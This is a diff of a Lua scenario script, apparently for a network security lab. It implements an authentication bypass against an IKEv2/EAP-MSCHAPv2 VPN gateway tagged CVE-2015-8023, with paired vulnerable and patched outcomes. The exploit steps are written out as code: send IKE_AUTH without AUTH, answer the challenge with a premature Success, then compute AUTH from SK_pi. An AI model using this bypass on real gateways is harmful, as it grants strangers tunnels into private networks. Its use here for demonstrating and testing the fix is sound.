@@ -6,6 +6,7 @@ attack = {
   position = "off-path",
   needs = "a user's name",
   source = "CVE-2015-8023; draft-kamath-pppext-eap-mschapv2; RFC 7296, 2.16",
+  unseen = "the conversation of EAP is inside the encrypted IKE_AUTH; only the gateway sees that the password was left out",
   shows = {
     vulnerable = "the gateway takes the last word for the whole conversation: a stranger is the user, and has a tunnel",
     hardened = "Success without a response before it is a failure: AUTHENTICATION_FAILED",
@@ -13,43 +14,23 @@ attack = {
   scenarios = { vulnerable = "skip-the-password", hardened = "skip-the-password-patched" },
 }
 
+local caller = library "caller"
+
 -- Parameters: target, own, user = the name of a user, first, last = addresses it asks for
 local p, me = nil, nil
 local goal = "be a user without the password"
-local proposal = { number = 1, protocol = 1, spi = "", transforms = {
-  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }
-local esp_proposal = { number = 1, protocol = 3, transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 5, id = 0 } } }
 
 function on_start(params)
   p = params
   assert(p.target and p.own and p.user, "parameters target, own, user")
   timer.after("1s", "begin")
 end
-
-local function send(note, payload)
-  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
-end
-local function request(id, payloads, note)
-  send(note, ike.seal({ spi_i = me.spi, spi_r = me.spi_r, exchange = 35, initiator = true, message_id = id, payloads = payloads }, me.suite, me.keys))
-end
-
-function on_timer()
-  me = { pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
-  me.request = ike.encode{ spi_i = me.spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
-    payloads = { ike.sa(proposal), ike.ke(me.pair), ike.nonce(me.nonce), ike.notify(16431, "\0\2\0\3\0\4\0\5") } }
-  send("IKE_SA_INIT, under its own address", me.request)
-end
+function on_timer() me = caller.call(p) end
 
 on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
-  if not me or message.spi_i ~= me.spi or not find(message, "KE") then return end
-  me.spi_r, me.nr = message.spi_r, find(message, "Ni/Nr").data
-  me.suite = ike.suite(find(message, "SA").proposals[1])
-  me.keys = ike.keys(me.suite, { ni = me.nonce, nr = me.nr, shared = crypto.shared(me.pair, find(message, "KE").data),
-    spi_i = me.spi, spi_r = message.spi_r })
-  ring.ike(me.spi, me.suite, me.keys)
-  esp_proposal.spi = crypto.random(4)
+  if not me or not caller.answered(me, message) then return end
   me.id = ike.id("i", 3, p.user)
-  request(1, { me.id, ike.sa(esp_proposal), ike.ts("i", p.first or "10.8.0.66", p.last or "10.8.0.66"), ike.ts("r", "10.2.0.0", "10.2.0.255") },
+  caller.request(me, 35, 1, { me.id, caller.child(p.first or "10.8.0.66", p.last) },
     "IKE_AUTH without AUTH: " .. p.user .. " wants to prove itself by EAP")
 end)
 
@@ -60,13 +41,13 @@ on({ exchange = "IKE_AUTH", response = true }, function(packet, message)
   local said = asked and eap.read(asked.data)
   if said and said.code == 1 and said.type == 26 and said.data:byte(1) == 1 then
     learn("challenge", "16 octets that only the password can answer", "EAP payload", said.data:sub(6, 21))
-    return request(2, { { number = 48, body = eap.packet(2, said.identifier, 26, "\3") } }, "EAP-MSCHAPv2 Success in the place of a response")
+    return caller.request(me, 35, 2, { { number = 48, body = eap.packet(2, said.identifier, 26, "\3") } }, "EAP-MSCHAPv2 Success in the place of a response")
   end
   if said and said.code == 3 then
     mark("The gateway says EAP-Success; nobody has shown a password.")
     -- EAP gave no key: AUTH is made with SK_pi
-    local octets = ike.signed_octets(me.suite.prf, { message = me.request, nonce = me.nr, sk_p = me.keys.sk_pi, id = me.id.body })
-    return request(message.message_id + 1, { ike.auth(2, ike.psk_auth(me.suite.prf, me.keys.sk_pi, octets)) }, "AUTH, made with SK_pi")
+    local auth = ike.psk_auth(me.suite.prf, me.keys.sk_pi, caller.signed_octets(me, me.id))
+    return caller.request(me, 35, message.message_id + 1, { ike.auth(2, auth) }, "AUTH, made with SK_pi")
   end
   me.done = true
   if notify_of(inner, "AUTHENTICATION_FAILED") or (said and said.code == 4) then
